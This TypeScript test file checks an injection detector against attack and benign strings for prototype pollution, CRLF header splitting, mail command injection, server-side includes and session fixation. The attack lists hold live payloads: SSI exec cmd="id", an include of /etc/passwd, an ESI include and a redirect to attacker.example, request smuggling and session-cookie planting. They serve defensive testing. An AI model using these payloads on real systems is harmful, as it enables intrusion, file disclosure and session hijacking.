import { crlf } from '../../../../src/inspection/injection/families/crlf.ts'
import { fixation } from '../../../../src/inspection/injection/families/fixation.ts'
import { mail } from '../../../../src/inspection/injection/families/mail.ts'
import { prototype } from '../../../../src/inspection/injection/families/prototype.ts'
import { ssi } from '../../../../src/inspection/injection/families/ssi.ts'
import { attacks, honest } from './cases.ts'

const name = { role: 'name' } as const

attacks(
  'prototype pollution',
  [prototype],
  [
    ['__proto__', name],
    ['__proto__[admin]', name],
    ['a[__proto__][b]', name],
    ['a.__proto__.b', name],
    ['constructor[prototype][admin]', name],
    ['constructor.prototype.admin', name],
    ['x[constructor][prototype][y]', name],
    ['__defineGetter__', name],
    ['__lookupSetter__', name],
    '{"__proto__":{"admin":true}}',
    '{"a":1,"__proto__":{"b":2}}',
    '{"constructor":{"prototype":{"admin":true}}}',
    '__proto__[admin]=1',
    '?__proto__.admin=1',
    'constructor[prototype][admin]=1',
    '__proto__',
    'a.__proto__.b',
    'constructor.prototype.polluted=1',
    '{"\\u005f\\u005fproto\\u005f\\u005f":{"x":1}}',
    '%5f%5fproto%5f%5f[x]=1',
  ],
)

honest(
  'prototype pollution',
  [prototype],
  [
    ['prototype', { role: 'name', in: 'body' }],
    ['constructor', { role: 'name', in: 'body' }],
    ['proto', { role: 'name', in: 'body' }],
    ['__typename', { role: 'name', in: 'body' }],
    'We built a prototype in a week.',
    'The constructor of the bridge was famous.',
    'class A { constructor() { super() } }',
    'Array.prototype.map.call(a, f)',
    'Object.prototype.hasOwnProperty.call(a, b)',
    'Never merge __proto__ from input.',
    'What is __proto__ in JavaScript, and how does it differ from prototype?',
    'A.prototype = Object.create(B.prototype)',
    'if (key === "__proto__") continue',
    ['prototype theory', { in: 'query' }],
    ['constructor championship', { in: 'query' }],
  ],
)

attacks(
  'header injection and splitting',
  [crlf],
  [
    'x\r\nSet-Cookie: a=b',
    'x\nLocation: http://attacker.example',
    '%0d%0aSet-Cookie:%20a=b',
    '%250d%250aX-Test: 1',
    '/a%0aHost:%20b',
    'x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>x</html>',
    'x\r\n\r\n<script>alert(1)</script>',
    'x\nGET /admin HTTP/1.1\nHost: a',
    'x\r\nTransfer-Encoding: chunked',
    '\u560d\u560aSet-Cookie:a=b',
    '%E5%98%8A%E5%98%8DSet-Cookie:a=b',
    '\rSet-Cookie: a=b',
    'x%u000aSet-Cookie: a',
    'ok\n2026-01-01 00:00:00 INFO login of admin',
    'ok\n[ERROR] forged',
    ['a\nb', { in: 'header', name: 'x-value' }],
    ['a\r\nb', { in: 'cookie', name: 'c' }],
    ['a\nb', { in: 'path', name: 'id' }],
    ['1\n2', { in: 'query', role: 'identifier', name: 'id' }],
    '0\r\n\r\nGET /admin HTTP/1.1\r\nX: y',
  ],
)

honest(
  'header injection and splitting',
  [crlf],
  [
    'line one\nline two',
    'Dear Anna,\n\nthank you: it came.\n\nBob',
    'Ingredients:\n- milk\n- eggs\n\nMethod: stir.',
    'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nSet-Cookie: a=b\r\n\r\n',
    'GET / HTTP/1.1\nHost: example.com\nAccept: */*\n',
    'curl -i example.com\nHTTP/1.1 200 OK\nServer: x\n',
    'Content-Type: application/json\nAuthorization: Bearer x\n',
    'location: Berlin\nstatus: open\n',
    'name: a\nserver: b\nhost: c\nport: 80\n',
    '2026-01-01 00:00:00 INFO a\n2026-01-01 00:00:01 ERROR b\n',
    'a\r\nb\r\nc',
    ['two\nlines', { in: 'query', role: 'prose', name: 'comment' }],
    ['plain', { in: 'header' }],
    'The header is written `Set-Cookie: a=b`, and ends with a line end.',
    '\n\n<p>Hello</p>',
  ],
)

attacks(
  'mail command and header injection',
  [mail],
  [
    'a@example.com\r\nRCPT TO: <b@example.com>',
    'x\r\nMAIL FROM: <a@example.com>',
    'x%0d%0aDATA%0d%0aSubject: x',
    'x\r\nQUIT\r\n',
    'x\r\nVRFY root',
    'x\nEHLO attacker.example',
    'a@example.com\nBcc: b@example.com',
    'a@example.com%0aCc:b@example.com',
    'a@example.com\r\nSubject: offer',
    'a@example.com\r\nReply-To: b@example.com',
    'a@example.com\r\nContent-Type: multipart/mixed',
    'x"\r\nV100 CAPABILITY\r\n',
    'x\r\nA1 LOGIN a b\r\n',
    'x\r\nZ900 SELECT INBOX\r\n',
    'x\r\na2 FETCH 1:* (BODY[TEXT])',
    '%0d%0aA3 STORE 2 +FLAGS (\\Deleted)',
    'x\r\nA4 EXPUNGE\r\n',
    'x\r\nDELE 1\r\n',
    'x\r\nRETR 2\r\n',
    'x\r\nUSER anna\r\n',
  ],
)

honest(
  'mail command and header injection',
  [mail],
  [
    'Hello\nTo whom it may concern',
    'Dear Anna,\nplease select one, and delete the other.\nBob',
    'From: a@example.com\nTo: b@example.com\nSubject: Hello\n\nHi Bob',
    '> From: a@example.com\n> To: b@example.com\n>\n> Hi',
    'Agenda\n1. List\n2. Create\n3. Delete',
    'data\nquit\nlist',
    'Shopping:\nList of things\nTop 10 of them',
    'Please note\nnoop is no operation',
    ['first\nsecond', { in: 'query', role: 'prose' }],
    'Subject to change\nfrom Monday to Friday',
    'A1 steel\nB2 bomber',
    'USER STORY\nAs a user I want to log in.\nPASS if it works.',
    'LIST\nSEARCH\nCOPY',
    'To do:\nfrom A: go\nto B: stop',
  ],
)

attacks(
  'server-side includes',
  [ssi],
  [
    '<!--#exec cmd="id"-->',
    '<!--#exec cgi="/cgi-bin/a"-->',
    '<!-- #exec cmd="id" -->',
    '<!--#include virtual="/etc/passwd"-->',
    '<!--#include file="a"-->',
    '<!--#echo var="DOCUMENT_ROOT"-->',
    '<!--#printenv-->',
    '<!--#config errmsg="x"-->',
    '<!--#set var="a" value="b"-->',
    '<!--#flastmod virtual="a"-->',
    '<esi:include src="http://attacker.example/a"/>',
    '<esi:inline name="/a">x</esi:inline>',
    '<esi:debug/>',
    '<!--esi $(HTTP_COOKIE)-->',
    '%3C!--%23exec%20cmd=%22id%22--%3E',
  ],
)

honest(
  'server-side includes',
  [ssi],
  [
    '<!-- a comment -->',
    '<!-- #1 in the list -->',
    '<!--[if IE]>x<![endif]-->',
    '<!-- include this -->',
    '#include <a.h>',
    'esi: include',
    '# exec summary',
    '<!-- #region -->',
    '<!-- # Heading -->',
    'Eliza <esi@example.com>',
  ],
)

attacks(
  'session fixation',
  [fixation],
  [
    ['PHPSESSID', name],
    ['jsessionid', name],
    ['ASP.NET_SessionId', name],
    ['connect.sid', name],
    ['CFTOKEN', name],
    ['laravel_session', name],
    "<script>document.cookie='PHPSESSID=1;path=/'</script>",
    "document.cookie='a=b; expires=Thu, 1 Jan 2030'",
    '<meta http-equiv="Set-Cookie" content="sid=1">',
    '<meta http-equiv=set-cookie content=a>',
    '/login?PHPSESSID=abcdef',
  ],
)

honest(
  'session fixation',
  [fixation],
  [
    ['session', name],
    ['sid', name],
    ['session_id', name],
    ['sessionId', name],
    ['PHPSESSID', { role: 'name', in: 'cookie' }],
    'The session cookie is called PHPSESSID.',
    'We use cookies.',
    'cookie recipe',
    'document.cookie is read by scripts',
    ['cookies and sessions', { in: 'query' }],
  ],
)
